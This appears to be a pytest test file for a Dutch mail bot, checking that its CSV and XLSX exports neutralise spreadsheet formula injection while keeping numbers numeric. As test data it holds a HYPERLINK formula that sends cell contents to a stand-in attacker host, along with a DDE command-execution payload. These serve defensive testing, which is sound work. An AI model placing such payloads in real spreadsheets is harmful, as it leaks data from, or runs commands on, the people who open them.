"""No cell of a CSV or XLSX file the bot writes can run as a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from typer.testing import CliRunner

from mailbot.bot import Bot
from mailbot.cli import app
from mailbot.dates.clock import SystemClock
from mailbot.forms import load_form
from mailbot.inbound.pipeline import run_pass
from mailbot.reports import files, xlsx
from mailbot.reports.cells import Column, Table
from mailbot.reports.formulas import defuse
from mailbot.store import db, orgs
from mailbot.store.submissions import store
from tests.mails import simple_mail
from tests.stories import FIGURES, gegevens_csv, gegevens_xlsx

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Utrecht")'
runner = CliRunner()


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HOSTILE, f"'{HOSTILE}"),
        ("+31 30 2860000", "'+31 30 2860000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'s-Hertogenbosch", "'s-Hertogenbosch"),
        ("Súdwest-Fryslân", "Súdwest-Fryslân"),
        ("2026-H1", "2026-H1"),
        (-3, -3),
        (-0.25, -0.25),
        (None, None),
    ],
)
def test_text_that_would_run_gets_a_quote_and_numbers_stay(value: object, written: object) -> None:
    assert defuse(value) == written


def test_a_report_table_writes_hostile_names_as_text_and_negative_numbers_as_numbers() -> None:
    table = Table("gemeenten", "Gemeenten", (Column("Gemeente", "text"), Column("Aantal"),
                                             Column("Verandering", "change")),
                  ((HOSTILE, 3, -0.25), ("Utrecht", -1, 0.5)))
    rows = list(csv.reader(io.StringIO(files.csv_text(table))))
    assert rows[1:] == [[f"'{HOSTILE}", "3", "-0.25"], ["Utrecht", "-1", "0.5"]]

    book = xlsx.workbook([xlsx.table_sheet(table)])
    sheet = openpyxl.load_workbook(io.BytesIO(book))["gemeenten"]
    name, count, change = sheet["A3"], sheet["B3"], sheet["C3"]
    assert (name.value, name.data_type, name.quotePrefix) == (HOSTILE, "s", True)
    assert (count.value, change.value) == (3, -0.25)
    assert sheet["B4"].value == -1 and not sheet["A4"].quotePrefix
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml").decode()


@pytest.fixture
def hostile_db(database_url: str, monkeypatch: pytest.MonkeyPatch) -> str:
    """An organisation whose name, code and region came from an import file nobody checked."""
    monkeypatch.setenv("MAILBOT_CONFIG", "/nonexistent/mailbot.toml")
    monkeypatch.setenv("MAILBOT_DATABASE_URL", database_url)
    engine = db.make_engine(database_url)
    db.init(engine)
    with db.session_scope(engine) as session:
        now = SystemClock().now()
        org = orgs.add(session, now, HOSTILE, "gemeente", "@SUM(1+1)", "+31 30 2860000")
        store(session, now, org, "2026-H1", load_form("gemeente"), FIGURES,
              sender="a@utrecht.nl", person_name=None, inbound_id=None)
    engine.dispose()
    return database_url


def test_export_csv_and_xlsx_keep_a_hostile_name_as_text(hostile_db: str, tmp_path: Path) -> None:
    result = runner.invoke(app, ["export", "--wide"], catch_exceptions=False)
    [row] = list(csv.DictReader(io.StringIO(result.output)))
    assert row["organisation"] == f"'{HOSTILE}"
    assert (row["code"], row["region"]) == ("'@SUM(1+1)", "'+31 30 2860000")
    assert row["gemeente_1"] == str(FIGURES["1"])

    out = tmp_path / "export.xlsx"
    runner.invoke(app, ["export", "--wide", "--format", "xlsx", "--out", str(out)],
                  catch_exceptions=False)
    sheet = openpyxl.load_workbook(out)["gemeente"]
    [cells] = sheet.iter_rows(min_row=2, max_row=2)
    assert [c.value for c in cells[1:4]] == [HOSTILE, "@SUM(1+1)", "+31 30 2860000"]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[1:4])
    assert all(isinstance(c.value, int) for c in cells[5:])


def test_gegevens_attachment_keeps_a_hostile_name_as_text(
    bot: Bot, imap_account: Any, smtp_sink: Any
) -> None:
    with db.session_scope(bot.engine) as session:
        org = orgs.add(session, bot.clock.now(), HOSTILE, "gemeente")
        orgs.add_address(session, bot.clock.now(), HOSTILE, "cijfers@elders.nl")
        store(session, bot.clock.now(), org, "2026-H1", load_form("gemeente"), FIGURES,
              sender="cijfers@elders.nl", person_name=None, inbound_id=None)
    imap_account.append(simple_mail("M. de Boer <cijfers@elders.nl>", "GEGEVENS"))
    run_pass(bot)

    [reply] = smtp_sink.wait_for(1)
    rows = gegevens_csv(reply.message)
    assert {row["Organisatie"] for row in rows} == {f"'{HOSTILE}"}
    assert {row["Aantal"] for row in rows} == {str(value) for value in FIGURES.values()}
    book = gegevens_xlsx(reply.message)
    assert {row["Organisatie"] for row in book} == {HOSTILE}
    [part] = [p for p in reply.message.iter_attachments() if p.get_filename().endswith(".xlsx")]
    sheet = openpyxl.load_workbook(io.BytesIO(part.get_payload(decode=True)))["gegevens"]
    name = sheet["B2"]
    assert name.data_type == "s" and name.quotePrefix and sheet["F2"].data_type == "n"


def test_the_daemon_writes_the_gegevens_workbook_without_openpyxl() -> None:
    # openpyxl and numpy would stay in the daemon's memory (about 20 MB) after one GEGEVENS.
    script = (
        "import sys\n"
        "from mailbot.handlers.gegevens import files\n"
        "files([('2026-H1', 'Utrecht', 'gemeente', '1', 'Aantal', 12, 1, 'x', 1)])\n"
        "assert 'openpyxl' not in sys.modules and 'numpy' not in sys.modules\n"
    )
    subprocess.run([sys.executable, "-c", script], check=True,
    cwd=Path(__file__).parent.parent.parent)
